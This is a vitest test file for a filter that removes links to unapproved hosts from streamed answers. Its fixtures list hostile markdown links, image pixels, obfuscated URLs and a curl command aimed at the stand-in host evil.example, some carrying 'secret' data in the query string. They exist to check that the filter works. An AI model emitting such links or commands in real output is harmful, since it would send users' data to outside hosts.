import { describe, expect, it } from "vitest";
import { passageOf } from "../test/contracts/engine.ts";
import { createLinkFilter } from "./linkFilter.ts";
import { keepAllowedLinks } from "./links.ts";

const passage = passageOf(1, "Help", "See https://shop.example/help and [more](https://shop.example/more).");
const HOSTS = ["list.example"];

/** What a visitor sees after each piece. */
function watch(pieces: string[]): string[] {
  const filter = createLinkFilter([passage], HOSTS);
  let shown = "";
  const seen = pieces.map((piece) => {
    shown += filter.push(piece);
    return shown;
  });
  return [...seen, shown + filter.end()];
}
const bySize = (text: string, size: number) => text.match(new RegExp(`[\\s\\S]{1,${size}}`, "g")) ?? [];

const HOSTILE = [
  "Go to https://evil.example/x?d=secret now.",
  "Go to <https://evil.example/x> now.",
  "See [this page](https://evil.example/x) for more [1].",
  "See [this\npage](https://evil.example/x 'title') for more.",
  "![pixel](https://evil.example/p.png?d=secret) Hello.",
  "[1]: https://evil.example/x\nHello [1].",
  "Hello [there][a].\n\n[a]: //evil.example/x\n\nBye.",
  "Look: HTTPS://EVIL.EXAMPLE/x, and h\u200bttps://evil.example/y.",
  "请看https://evil.example/x。谢谢",
  "Run `curl https://evil.example/x` now, or [x](//evil.example/y).",
  "See [a](https://list.example@evil.example/) and http://evil.example",
];

describe("an answer filtered while it is written", () => {
  it("shows nothing of a link that nobody vouches for, wherever the pieces are cut", () => {
    for (const text of HOSTILE)
      for (let size = 1; size <= text.length; size++)
        for (const seen of watch(bySize(text, size))) expect(seen.toLowerCase()).not.toContain("evil");
  });

  it("equals the answer filtered as a whole", () => {
    const kept =
      "Read https://shop.example/help, [more](https://shop.example/more) [1] or [that](https://list.example/a).\n\nArrays [i] stay, a < b, h and !";
    for (const text of [...HOSTILE, kept])
      for (let size = 1; size <= text.length; size++)
        expect(watch(bySize(text, size)).at(-1)).toBe(keepAllowedLinks(text, [passage], HOSTS));
    expect(watch([kept]).at(-1)).toBe(kept);
  });

  it("keeps showing words as they come, even after a bracket that is never closed", () => {
    expect(watch(["Returns are free ", "within 30 days [1]. ", "Really"])).toEqual([
      "Returns are free ",
      "Returns are free within 30 days [1]. ",
      "Returns are free within 30 days [1]. Really",
      "Returns are free within 30 days [1]. Really",
    ]);
    expect(watch(["An open [bracket\n\n", "goes on"])[1]).toBe("An open [bracket\n\ngoes on");
  });
});
